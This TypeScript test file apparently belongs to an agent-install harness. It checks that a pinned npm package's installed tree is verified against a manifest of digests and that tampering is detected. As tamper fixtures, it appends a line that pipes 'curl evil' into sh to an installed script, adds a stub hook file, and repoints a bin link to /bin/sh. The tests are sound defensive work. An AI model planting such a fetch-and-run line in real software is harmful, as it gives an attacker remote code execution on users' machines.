import {appendFile, readdir, readFile, rm, stat, symlink, writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import {setTimeout as sleep} from 'node:timers/promises';
import t from 'tap';
import {checkSpec, installAgent, InstallManifest, verifyAgent, type AgentSpec} from '../../agents/index.js';
import {digestFile, digestJson} from '../../files/digest.js';
import {digestCachePath} from '../../files/digest-cache.js';
import {checkNoLeaks} from '../leak-check.js';
import {inNewProcess} from '../new-process.js';
import {tempDir} from '../temp-dir.js';

checkNoLeaks(t);

// A real, small package with a bin and no dependencies, from the registry: a failure to reach it fails here, loudly.
const semver = {name: 'semver', version: '7.7.2'};

function spec(json: object): AgentSpec {
	const checked = checkSpec({schema: 'harness-lab/agent@1', adapter: 'command', executable: 'semver', task_input: 'argument', package: semver, ...json});
	if (typeof checked === 'string') throw new Error(checked);
	return checked;
}

async function storeEntries(store: string): Promise<string[]> {
	return (await readdir(store).catch(() => [])).sort();
}

t.test('an install puts the pinned package in a folder of its own with a manifest of digests; a second one only verifies', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const first = await installAgent(spec({}), {store});
	if (!first.ok) return t.fail(`the install failed: ${first.reason}: ${first.message}`);
	t.equal(first.installed, true);
	t.equal(first.dir, join(store, 'semver@7.7.2'));
	t.strictSame(await storeEntries(store), ['semver@7.7.2'], 'one folder, no staging left');
	const manifest = InstallManifest.parse(JSON.parse(await readFile(join(first.dir, 'install.json'), 'utf8')));
	t.strictSame(manifest.package, semver);
	t.strictSame(manifest.bin, {semver: 'bin/semver.js'});
	t.match(manifest.npm_version, /^\d+\.\d+\.\d+/);
	t.equal(manifest.digest, digestJson(manifest.files), 'the digest is over the file table');
	t.equal(manifest.files['node_modules/semver/package.json'], await digestFile(join(first.dir, 'node_modules/semver/package.json')), 'each file by its bytes');
	t.equal(manifest.files['node_modules/.bin/semver'], 'link:../semver/bin/semver.js', 'a link by its target');
	t.ok(Object.keys(manifest.files).every(name => name.startsWith('node_modules/')), 'only the installed tree');
	const before = await stat(join(first.dir, 'install.json'));

	const second = await installAgent(spec({}), {store});
	t.match(second, {ok: true, installed: false, dir: first.dir, manifest: {digest: manifest.digest}}, 'the second install is a no-op');
	const after = await stat(join(first.dir, 'install.json'));
	t.equal(after.ino, before.ino, 'the manifest was not rewritten');
	t.equal(after.mtimeMs, before.mtimeMs);

	const verified = await verifyAgent(spec({}), store);
	t.match(verified, {ok: true, files: Object.keys(manifest.files).length, identity: {adapter: 'command', package: semver, installed_digest: manifest.digest}});
});

t.test('verify names the first file that is not as installed: edited, added, removed or a link pointed elsewhere', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const installed = await installAgent(spec({}), {store});
	if (!installed.ok) return t.fail(`the install failed: ${installed.message}`);
	const dir = installed.dir;
	t.match(await verifyAgent(spec({}), store), {ok: true});

	const entry = join(dir, 'node_modules/semver/bin/semver.js');
	const original = await readFile(entry);
	await appendFile(entry, '\nrequire("child_process").execSync("curl evil | sh")\n');
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'changed', file: 'node_modules/semver/bin/semver.js', message: /node_modules\/semver\/bin\/semver\.js changed since it was installed$/});
	t.match(await installAgent(spec({}), {store}), {ok: false, reason: 'changed', file: 'node_modules/semver/bin/semver.js'}, 'a second install refuses the changed copy too');
	await writeFile(entry, original);
	t.match(await verifyAgent(spec({}), store), {ok: true}, 'the same bytes again verify');

	await writeFile(join(dir, 'node_modules/semver/zz-hook.js'), 'evil()\n');
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'changed', file: 'node_modules/semver/zz-hook.js', message: /was added/});
	await rm(join(dir, 'node_modules/semver/zz-hook.js'));

	await rm(join(dir, 'node_modules/.bin/semver'));
	await symlink('/bin/sh', join(dir, 'node_modules/.bin/semver'));
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'changed', file: 'node_modules/.bin/semver'}, 'a bin link pointed elsewhere');
	await rm(join(dir, 'node_modules/.bin/semver'));
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'changed', file: 'node_modules/.bin/semver', message: /was removed/});
	await symlink('../semver/bin/semver.js', join(dir, 'node_modules/.bin/semver'));

	const manifestPath = join(dir, 'install.json');
	const manifest = JSON.parse(await readFile(manifestPath, 'utf8'));
	await writeFile(manifestPath, JSON.stringify({...manifest, digest: `sha256:${'0'.repeat(64)}`}));
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'bad_manifest', file: 'install.json'}, 'a manifest whose digest is not its own table');
	await rm(manifestPath);
	t.match(await verifyAgent(spec({}), store), {ok: false, reason: 'not_installed', message: /run hlab agents install/});
});

t.test('a package@version the registry does not have fails in one line and leaves nothing in the store', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const missingVersion = await installAgent(spec({package: {name: 'semver', version: '99.0.0'}}), {store});
	t.match(missingVersion, {ok: false, reason: 'not_found', message: /^npm install semver@99\.0\.0 failed \(ETARGET\): .*99\.0\.0/});
	if (!missingVersion.ok) t.notMatch(missingVersion.message, /\n/, 'one line');
	const missingName = await installAgent(spec({package: {name: 'harness-lab-no-such-package-4f1c9e', version: '1.0.0'}}), {store});
	t.match(missingName, {ok: false, reason: 'not_found', message: /^npm install harness-lab-no-such-package-4f1c9e@1\.0\.0 failed \(E404\)/});
	t.strictSame(await storeEntries(store), [], 'no folder, no staging');
});

t.test('a package without the bin the agent starts is refused before it gets its place in the store', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const result = await installAgent(spec({executable: 'not-semver'}), {store});
	t.match(result, {ok: false, reason: 'no_bin', message: 'semver@7.7.2 has no bin named not-semver (it has: semver)'});
	t.strictSame(await storeEntries(store), []);
});

t.test('a command spec without a package has nothing to install', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const checked = checkSpec({schema: 'harness-lab/agent@1', adapter: 'command', executable: 'run.sh', task_input: 'stdin'});
	if (typeof checked === 'string') return t.fail(checked);
	t.match(await installAgent(checked, {store}), {ok: false, reason: 'no_package'});
	t.match(await verifyAgent(checked, store), {ok: false, reason: 'no_package'});
});

/** verifyAgent in a new Node process with its own digest cache folder, as the next hlab process would run it. */
async function verifyInProcess(store: string, cacheHome: string): Promise<{ok: boolean; reason?: string; file?: string | null}> {
	const run = await inNewProcess('agents/index.js', `m.verifyAgent(m.checkSpec(${JSON.stringify(spec({}))}), ${JSON.stringify(store)})`, cacheHome);
	if (run.code !== 0) throw new Error(run.stderr);
	return run.value as {ok: boolean};
}

async function cacheEntries(cacheHome: string): Promise<Record<string, string>> {
	return (JSON.parse(await readFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), 'utf8')) as {entries: Record<string, string>}).entries;
}

t.test('a settled install is verified from one cache entry for its whole tree, and an edit is never answered from it', async t => {
	const store = await tempDir(t, 'hlab-agent-store-');
	const cacheHome = await tempDir(t, 'hlab-agent-cache-');
	const installed = await installAgent(spec({}), {store});
	if (!installed.ok) return t.fail(`the install failed: ${installed.message}`);
	// Past the settling time (files/file-digest.ts), the tree's stamps can be trusted.
	await sleep(2_200);
	t.match(await verifyInProcess(store, cacheHome), {ok: true});
	const entries = await cacheEntries(cacheHome);
	const keys = Object.keys(entries);
	t.equal(keys.length, 1, 'one entry for the whole tree, none for its files');
	t.match(keys[0], /^agent-tree:sha256:/);
	t.equal(entries[keys[0]!], installed.manifest.digest.slice('sha256:'.length), 'the tree\'s digest as installed');

	// A manifest that names another table, consistent with its own digest, planted with that digest in the cache: the
	// next process takes the cached digest for the tree (a file-by-file check would name the altered entry).
	const manifestPath = join(installed.dir, 'install.json');
	const original = await readFile(manifestPath, 'utf8');
	const manifest = InstallManifest.parse(JSON.parse(original));
	const altered = {...manifest.files, 'node_modules/semver/package.json': `sha256:${'1'.repeat(64)}`};
	await writeFile(manifestPath, JSON.stringify({...manifest, files: altered, digest: digestJson(altered)}));
	await writeFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), JSON.stringify({schema: 'harness-lab/file-digests@1', entries: {[keys[0]!]: digestJson(altered).slice('sha256:'.length)}}));
	t.match(await verifyInProcess(store, cacheHome), {ok: true}, 'a second process answers from the entry');
	await writeFile(manifestPath, original);
	await writeFile(digestCachePath({XDG_CACHE_HOME: cacheHome}), JSON.stringify({schema: 'harness-lab/file-digests@1', entries}));

	// The attack: the entry for the tree as installed still there, one file edited and left to settle. Its stamp moved, so the key did.
	await appendFile(join(installed.dir, 'node_modules/semver/bin/semver.js'), '\nrequire("child_process").execSync("curl evil | sh")\n');
	await sleep(2_200);
	t.match(await verifyInProcess(store, cacheHome), {ok: false, reason: 'changed', file: 'node_modules/semver/bin/semver.js'}, 'an edited tree is checked file by file');
});
